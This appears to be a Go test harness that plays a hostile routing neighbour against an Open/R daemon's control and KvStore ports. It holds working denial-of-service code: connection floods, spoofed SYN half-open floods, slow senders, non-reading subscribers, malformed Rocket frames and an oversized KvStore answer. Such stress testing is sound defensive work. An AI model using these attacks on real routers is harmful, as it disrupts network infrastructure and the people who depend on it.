package hostile

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"openr/thrift/gen/kvstore"
	"openr/thrift/gen/openrctrlcpp"
	"openr/thrift/invoke"
	"openr/thrift/rocket"
	"openr/thrift/rpc"
)

// holds is how long connections are kept that are a nuisance by their number.
const holds = time.Second

// open connects to the victim's control port as many times as it can, and hands each connection to f at once. It returns
// when all that f does is done.
func (n *Neighbour) open(ctx context.Context, times int, f func(i int, conn net.Conn)) error {
	target := n.target()
	var all sync.WaitGroup
	defer all.Wait()
	for i := range times {
		var conn net.Conn
		// Packets that wait for a reader that does not come shall wait at the victim.
		dialer := net.Dialer{Timeout: 5 * time.Second, Control: func(_, _ string, c syscall.RawConn) error {
			return c.Control(func(fd uintptr) { _ = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 4096) })
		}}
		err := n.o.Inside(func() (err error) {
			conn, err = dialer.DialContext(ctx, "tcp", target)
			return err
		})
		if err != nil {
			if i == 0 {
				return err
			}
			continue
		}
		all.Go(func() {
			defer conn.Close()
			f(i, conn)
		})
	}
	return nil
}

// endure waits until the victim has enough of a connection, or Lasts.
func (n *Neighbour) endure(ctx context.Context, conn net.Conn) {
	_ = conn.SetReadDeadline(time.Now().Add(n.o.Lasts))
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	_, _ = io.Copy(io.Discard, conn)
}

// wait waits for d or the end of ctx.
func wait(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// halfOpen opens some connections whole, and of others only the first half, as if from an address of which nothing comes
// back.
func (n *Neighbour) halfOpen(ctx context.Context) error {
	n.mu.Lock()
	v := n.victim
	n.mu.Unlock()
	for i := range n.dose(2000) {
		if err := n.wire.send(ctx, v.mac, syn(from(0), v.addr, uint16(1024+i), uint16(n.o.Port))); err != nil {
			return err
		}
	}
	return n.open(ctx, n.dose(50), func(_ int, conn net.Conn) { n.endure(ctx, conn) })
}

func (n *Neighbour) manyConnections(ctx context.Context) error {
	return n.open(ctx, n.dose(3000), func(int, net.Conn) { wait(ctx, holds) })
}

func (n *Neighbour) slowSender(ctx context.Context) error {
	framed := append(binary.BigEndian.AppendUint32(nil, 1<<20), 0x80, 0x01, 0x00, 0x01) // framed binary, a megabyte of it
	rocket := []byte{0, 0x10, 0, 0, 0, 0, 0, 0x05}                                      // a SETUP frame of 4 KiB
	return n.open(ctx, n.dose(30), func(i int, conn net.Conn) {
		begin, end := framed, time.Now().Add(n.o.Lasts)
		if i%2 == 0 {
			begin = rocket
		}
		for k := 0; ctx.Err() == nil && time.Now().Before(end); k++ {
			b := byte(0)
			if k < len(begin) {
				b = begin[k]
			}
			if _, err := conn.Write([]byte{b}); err != nil {
				return
			}
			wait(ctx, 50*time.Millisecond)
		}
	})
}

// neverReads asks for everything and for all changes, again and again, and takes nothing of it. That there is something to be
// taken it sees to itself.
func (n *Neighbour) neverReads(ctx context.Context) error {
	data := make([]byte, 1000)
	err := n.write(ctx, max(10, n.dose(10)), 4, func(i int) kvstore.KeyVals {
		vals := kvstore.KeyVals{}
		for k := range 100 {
			v := value(n.o.Node, 1, data)
			v.TTL = n.o.Lasts.Milliseconds() + keyTTL
			vals[fmt.Sprintf("load:%d-%d", i, k)] = v
		}
		return vals
	})
	if err != nil {
		return err
	}
	return n.open(ctx, max(20, n.dose(20)), func(_ int, conn net.Conn) {
		life, stop := context.WithTimeout(ctx, n.o.Lasts)
		defer stop()
		c := rocket.NewClient(deaf{conn, life, stop}, rocket.ClientOptions{MaxMessage: rpc.DefaultMaxFrame, Encoding: invoke.Compact})
		defer c.Close()
		var all sync.WaitGroup
		defer all.Wait()
		for k := range max(50, n.dose(50)) {
			all.Go(func() {
				if k%5 == 0 {
					first := openrctrlcpp.NewOpenrCtrlCppSubscribeAndGetKvStoreResult()
					if s, err := c.Stream(life, "subscribeAndGetKvStore", openrctrlcpp.NewOpenrCtrlCppSubscribeAndGetKvStoreArgs(), first); err == nil {
						s.Close()
					}
					return
				}
				args := &kvstore.KvStoreServiceGetKvStoreKeyValsFilteredAreaArgs{Filter: kvstore.NewKeyDumpParams(), Area: n.o.Area}
				_, _ = c.Call(life, "getKvStoreKeyValsFilteredArea", args, kvstore.NewKvStoreServiceGetKvStoreKeyValsFilteredAreaResult())
			})
		}
	})
}

// deaf is a connection from which nothing is read. It notices when the other side has closed it all the same, once enough of
// what came before has been dropped by the other's kernel, and then says so.
type deaf struct {
	net.Conn
	life context.Context
	stop context.CancelFunc
}

func (d deaf) Read([]byte) (int, error) {
	raw, err := d.Conn.(*net.TCPConn).SyscallConn()
	for err == nil && d.life.Err() == nil {
		gone := false
		err = raw.Control(func(fd uintptr) {
			info, failed := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO)
			gone = failed != nil || info.State != tcpEstablished
		})
		if gone {
			break
		}
		wait(d.life, 100*time.Millisecond)
	}
	d.stop()
	return 0, io.EOF
}

// tcpEstablished is TCP_ESTABLISHED of linux/include/net/tcp_states.h.
const tcpEstablished = 1

func (n *Neighbour) muteStore(ctx context.Context) error {
	return n.asStore(ctx, "mute", holds, func(_ context.Context, conn net.Conn) { _, _ = io.Copy(io.Discard, conn) })
}

func (n *Neighbour) ravingStore(ctx context.Context) error {
	rng := rand.New(rand.NewPCG(1, 2))
	var mu sync.Mutex
	return n.asStore(ctx, "raving", holds, func(_ context.Context, conn net.Conn) {
		mu.Lock()
		var b []byte
		switch rng.IntN(3) {
		case 0: // the longest frame there is, of stream 1, PAYLOAD with more to follow, again and again
			b = append([]byte{0xff, 0xff, 0xff, 0, 0, 0, 1, 0x28, 0xa0}, bytes.Repeat([]byte{0}, 1<<16)...)
		case 1: // KEEPALIVE that wants an answer
			b = bytes.Repeat([]byte{0, 0, 14, 0, 0, 0, 0, 0x0c, 0x80, 0, 0, 0, 0, 0, 0, 0, 0}, 1000)
		default:
			for range 1 << 12 {
				b = binary.LittleEndian.AppendUint64(b, rng.Uint64())
			}
		}
		mu.Unlock()
		for range 64 {
			if _, err := conn.Write(b); err != nil {
				return
			}
		}
	})
}

func (n *Neighbour) millionAnswer(ctx context.Context) error {
	answer := kvstore.NewPublication()
	answer.Area, answer.KeyVals, answer.TobeUpdatedKeys = n.o.Area, kvstore.KeyVals{}, []string{}
	data := bytes.Repeat([]byte{'x'}, 100)
	for i := range n.dose(500_000) {
		answer.KeyVals["answer:"+string(binary.BigEndian.AppendUint32(nil, uint32(i)))] = value(n.o.Node, 1, data)
	}
	service := &invoke.Service{Processor: kvstore.NewKvStoreServiceProcessor(answering{answer: answer})}
	return n.asStore(ctx, "generous", 3*holds, func(ctx context.Context, conn net.Conn) {
		_ = rocket.Serve(ctx, conn, service, rocket.ServerOptions{MaxMessage: 1 << 30})
	})
}
